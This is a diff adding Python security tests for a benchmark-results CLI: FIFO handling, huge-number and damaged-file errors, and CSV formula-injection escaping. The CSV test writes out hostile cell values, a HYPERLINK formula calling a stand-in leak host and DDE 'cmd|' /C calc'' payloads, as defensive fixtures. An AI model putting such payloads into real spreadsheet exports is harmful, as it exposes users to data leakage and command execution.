@@ -6,12 +6,19 @@ a careless hand could leave, and checks the real code path (the CLI where the us
 
 from __future__ import annotations
 
+import csv
 import json
 import os
+import re
 import shutil
+import subprocess
+import sys
+from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import click
+import pytest
 from click.testing import CliRunner
 from hypothesis import assume, given, settings
 from hypothesis import strategies as st
@@ -22,6 +29,7 @@ from workload.cli.results_cmd import results_command
 from workload.metrics.collection import collect
 from workload.metrics.outputs import OutputContext, write_outputs
 
+ROOT = Path(__file__).resolve().parent.parent
 FIX = Path(__file__).parent / "fixtures" / "results"
 H200 = FIX / "nvidia" / "logs" / "2024.07.24-15.41.28"
 OFFLINE = H200 / "H200-SXM-141GBx8_TRT" / "bert-99" / "Offline"
@@ -152,3 +160,260 @@ def test_fuzz_no_url_secret_survives_masking(password: str, query_name: str, que
         parsed = parse_url(url)
         assert parsed.password == password.replace("%40", "@") or "%" in password
         assert parsed.host == "db.example" and password not in display_url(parsed)
+
+
+# -- 4. FIFOs hang results and report ---------------------------------------------------------------
+TREES = FIX / "trees"
+V61 = TREES / "v6.1"
+V61_SCENARIO = "closed/NVIDIA/results/VR-NVL72_VR-288GB_aarch64x72_TRT/deepseek-r1/Server"
+
+
+def _with_fifo(tmp_path: Path, source: Path, relative: str) -> Path:
+    """A copy of ``source`` whose file ``relative`` is replaced by a FIFO nobody writes to."""
+    tree = tmp_path / "tree"
+    shutil.copytree(source, tree)
+    target = tree / relative
+    target.unlink(missing_ok=True)
+    os.mkfifo(target)
+    return tree
+
+
+@pytest.mark.parametrize(
+    ("source", "relative"),
+    [
+        (OFFLINE, "workload-config-source.json"),  # beside a metadata.json: the sidecar of a kept result
+        (V61, f"{V61_SCENARIO}/config.yaml"),  # the endpoints client's configuration
+        (V61, "closed/NVIDIA/systems/VR-NVL72_VR-288GB_aarch64x72_TRT.json"),  # a submission's system
+    ],
+)
+def test_results_name_a_fifo_in_the_tree_instead_of_blocking_on_it(tmp_path: Path, source: Path, relative: str) -> None:
+    tree = _with_fifo(tmp_path, source, relative)
+    done = _bounded_cli(["results", str(tree), "--host", "h1"])
+    assert done.returncode == 6, done.stdout + done.stderr
+    assert "not a regular file (a FIFO)" in done.stdout + done.stderr
+    assert relative.rsplit("/", 1)[-1] in done.stdout + done.stderr
+
+
+def test_report_names_a_fifo_in_the_run_folder_instead_of_blocking_on_it(tmp_path: Path) -> None:
+    folder = tmp_path / "run"
+    write_outputs(folder, collect(OFFLINE, host="h1").results, OutputContext())
+    (folder / "telemetry").mkdir()
+    os.mkfifo(folder / "telemetry" / "summary.json")
+    done = _bounded_cli(["report", str(folder)])
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert "telemetry/summary.json: cannot be read: not a regular file (a FIFO)" in done.stderr
+
+
+def test_read_regular_refuses_special_files_without_blocking(tmp_path: Path) -> None:
+    from workload.safefile import NotRegularFile, TooLarge, read_regular
+
+    os.mkfifo(tmp_path / "fifo")
+    with pytest.raises(NotRegularFile, match="a FIFO"):
+        read_regular(tmp_path / "fifo")
+    with pytest.raises(NotRegularFile, match="a character device"):
+        read_regular("/dev/zero")
+    with pytest.raises(NotRegularFile, match="a folder"):
+        read_regular(tmp_path)
+    (tmp_path / "big").write_bytes(b"x" * 101)
+    with pytest.raises(TooLarge):
+        read_regular(tmp_path / "big", 100)
+    assert read_regular(tmp_path / "big", 101) == b"x" * 101
+
+
+def _bounded_cli(args: list[str], *, timeout: float = 60) -> subprocess.CompletedProcess[str]:
+    """The real CLI in a process of its own: a read that blocks fails the test by its timeout, not by hanging it."""
+    return subprocess.run(
+        [sys.executable, "-m", "workload", *args], capture_output=True, text=True, timeout=timeout, check=False
+    )
+
+
+# -- 5. crashes on bad input ------------------------------------------------------------------------
+HUGE = "9" * 5000
+
+
+def test_a_5000_digit_number_in_a_profile_is_named_not_a_crash(tmp_path: Path) -> None:
+    profile = json.loads((ROOT / "profiles" / "PERF-CPU-MLPERF.json").read_text())
+    text = json.dumps(profile).replace('"Parameters": {', f'"Parameters": {{"Huge": {HUGE}, ', 1)
+    (tmp_path / "P.json").write_text(text)
+    done = _bounded_cli(["show", str(tmp_path / "P.json")])
+    assert done.returncode == 2, done.stderr
+    assert "P.json: Parameters.Huge: a number of 5000 digits is out of range" in done.stderr
+    assert "internal error" not in done.stderr
+
+
+@pytest.mark.parametrize("port", [HUGE, f'"{HUGE}"', "1e999"])
+def test_a_huge_inventory_port_is_named_not_a_crash(tmp_path: Path, port: str) -> None:
+    from workload.errors import UsageError
+    from workload.inventory import load_inventory
+
+    path = tmp_path / "fleet.json"
+    path.write_text(f'{{"hosts": [{{"host": "10.0.0.4", "port": {port}}}]}}')
+    with pytest.raises(UsageError, match=r"fleet.json: hosts\[0\](\.port)?: ") as err:
+        load_inventory(path)
+    assert len(str(err.value)) < 300
+    (tmp_path / "fleet.txt").write_text(f"10.0.0.4 port={HUGE}\n")
+    with pytest.raises(UsageError, match="is not a number between 1 and 65535"):
+        load_inventory(tmp_path / "fleet.txt")
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["--since", "999999d"],
+        ["--since", "99999999999999999999w"],
+        ["--since", "9999-12-31T23:59:59-23:59"],
+        ["--limit", "99999999999999999999"],
+    ],
+)
+def test_history_filters_out_of_range_are_usage_errors(tmp_path: Path, args: list[str]) -> None:
+    done = _bounded_cli(["history", "--history", f"sqlite:///{tmp_path / 'h.sqlite'}", *args])
+    assert done.returncode == 2, done.stderr
+    assert "Traceback" not in done.stderr and "internal error" not in done.stderr
+
+
+def _run_folder(tmp_path: Path) -> Path:
+    folder = tmp_path / "20261129-000000-P"
+    write_outputs(folder, collect(OFFLINE, host="h1").results, OutputContext())
+    (folder / "run.json").write_text(json.dumps({"run_id": folder.name, "controller": {"cpu_model": "x"}}))
+    (folder / "telemetry").mkdir()
+    summary = {"hosts": {"h1": {"devices": {"gpu0": {"name": "H200", "metrics": {"power": _STAT}}}}}}
+    (folder / "telemetry" / "summary.json").write_text(json.dumps(summary))
+    sample = {"time": "2026-11-29T00:00:00+00:00", "host": "h1", "device": "gpu0", "values": {"power": 1}}
+    (folder / "telemetry" / "samples.jsonl").write_text(json.dumps(sample) + "\n")
+    return folder
+
+
+_STAT = {"min": 1, "avg": 2, "max": 3, "unit": "W"}
+
+
+def _damage(path: Path, edit: Callable[[Any], Any]) -> None:
+    path.write_text(json.dumps(edit(json.loads(path.read_text()))))
+
+
+def _headline(value: str) -> Callable[[Path], None]:
+    def damage(folder: Path) -> None:
+        text = (folder / "summary.json").read_text()
+        start = text.index('"headline"')
+        at = text.index('"value":', start) + len('"value":')
+        end = min(text.index(",", at), text.index("}", at))
+        (folder / "summary.json").write_text(text[:at] + " " + value + text[end:])
+
+    return damage
+
+
+DAMAGES: dict[str, tuple[Callable[[Path], None], str]] = {
+    "results is a number": (
+        lambda f: _damage(f / "summary.json", lambda d: d | {"results": 5}),
+        "summary.json: results: expected an array, not a number",
+    ),
+    "headline Infinity": (_headline("Infinity"), "summary.json: results[0].headline.value: 'Infinity' is not a finite"),
+    "headline 1e999": (_headline("1e999"), "summary.json: results[0].headline.value: '1e999' is not a finite"),
+    "headline 5000 digits": (_headline(HUGE), "results[0].headline.value: a number of 5000 digits is out of range"),
+    "telemetry sample 1e999": (
+        lambda f: (f / "telemetry" / "samples.jsonl").write_text(
+            '{"time": "2026-11-29T00:00:01+00:00", "host": "h1", "device": "gpu0", "values": {"power": 1e999}}\n'
+        ),
+        "samples.jsonl:1: values.power: '1e999' is not a finite number",
+    ),
+    "metrics line is a list": (
+        lambda f: (f / "metrics.jsonl").write_text("[1,2]\n"),
+        "metrics.jsonl:1: expected a JSON object",
+    ),
+    "telemetry stat without min": (
+        lambda f: _damage(
+            f / "telemetry" / "summary.json",
+            lambda d: {"hosts": {"h1": {"devices": {"gpu0": {"metrics": {"power": {"avg": 1, "max": 2}}}}}}},
+        ),
+        "summary.json: hosts.h1.devices.gpu0.metrics.power.min: missing",
+    ),
+    "controller is a list": (
+        lambda f: _damage(f / "run.json", lambda d: d | {"controller": [1]}),
+        "run.json: controller: expected an object, not an array",
+    ),
+}
+
+
+@pytest.mark.parametrize("damage", sorted(DAMAGES))
+def test_report_names_the_damaged_file_and_place_and_exits_2(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], damage: str
+) -> None:
+    from workload.cli import invoke
+
+    folder = _run_folder(tmp_path)
+    assert invoke(["report", str(folder)]) == 0  # the undamaged folder reports
+    edit, expected = DAMAGES[damage]
+    edit(folder)
+    capsys.readouterr()
+    assert invoke(["report", str(folder)]) == 2
+    err = capsys.readouterr().err
+    assert expected in err and "internal error" not in err
+
+
+# -- 8. CSV formula injection ------------------------------------------------------------------------
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _csv_cells(path: Path) -> list[list[str]]:
+    with path.open(newline="", encoding="utf-8") as handle:
+        return list(csv.reader(handle))
+
+
+def test_metrics_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    results = [
+        result.model_copy(
+            update={
+                "benchmark_full": '=HYPERLINK("http://x.example/?leak","click")',
+                "metrics": [
+                    m.model_copy(update={"scenario_name": "@SUM(1+1)*cmd|' /C calc'!A0"}) for m in result.metrics
+                ],
+            }
+        )
+        for result in collect(OFFLINE, host="=cmd|' /C calc'!A0").results
+    ]
+    write_outputs(tmp_path, results, OutputContext(profile_name="-2+3+cmd|' /C calc'!A0"))
+    rows = _csv_cells(tmp_path / "metrics.csv")
+    header, body = rows[0], rows[1:]
+    assert body and all(len(row) == len(header) for row in body)
+    for row in body:
+        for cell in row:
+            assert not cell.startswith(FORMULA_START) or re.fullmatch(r"[+-]?[\d.]+([eE][+-]?\d+)?", cell), cell
+    first = dict(zip(header, body[0], strict=True))
+    assert first["ClientId"] == "'=cmd|' /C calc'!A0"
+    assert first["ScenarioName"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and first["ProfileName"].startswith("'-2+3")
+    # metrics.jsonl keeps the values as they are, and a merge into the folder keeps the rows it finds
+    assert '"host":"=cmd|\' /C calc\'!A0"' in (tmp_path / "metrics.jsonl").read_text()
+    write_outputs(tmp_path, collect(OFFLINE, host="other").results, OutputContext())
+    again = _csv_cells(tmp_path / "metrics.csv")
+    assert [r for r in again if r[header.index("ClientId")] == "'=cmd|' /C calc'!A0"] == body
+
+
+@settings(max_examples=60, deadline=None)
+@given(host=st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=20))
+def test_fuzz_csv_cells_of_any_host_name(host: str) -> None:
+    from workload.metrics.records import quote, spreadsheet_safe
+
+    cell = next(csv.reader([quote(host)]))[0]
+    assert cell == spreadsheet_safe(host) and spreadsheet_safe(cell) == cell
+    assert cell == host or (cell == "'" + host and host.startswith(FORMULA_START))
+    assert not cell.startswith(FORMULA_START) or re.fullmatch(r"[+-]?[\d.]+([eE][+-]?\d+)?", cell)
+
+
+@settings(max_examples=60, deadline=None)
+@given(texts=st.lists(st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=30), min_size=3))
+def test_fuzz_junit_of_any_text_is_valid_xml_with_the_text_kept(texts: list[str]) -> None:
+    import tempfile
+    import xml.etree.ElementTree as ET
+
+    from workload.metrics.junit import Case, write
+
+    classname, name, failure = texts[0], texts[1], texts[2]
+    with tempfile.TemporaryDirectory() as folder:
+        path = write(Path(folder) / "j.xml", [Case(classname, name, failures=[failure or "x"])], suite=texts[-1])
+        case = ET.parse(path).getroot().find("./testsuite/testcase")
+    assert case is not None
+    xml_char = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
+    assert case.get("classname") == xml_char.sub("\ufffd", classname)
+    assert case.get("name") == xml_char.sub("\ufffd", name)
+    assert (case.findtext("failure") or "") == xml_char.sub("\ufffd", failure or "x").replace("\r\n", "\n").replace(
+        "\r", "\n"
+    ) or "\r" in failure
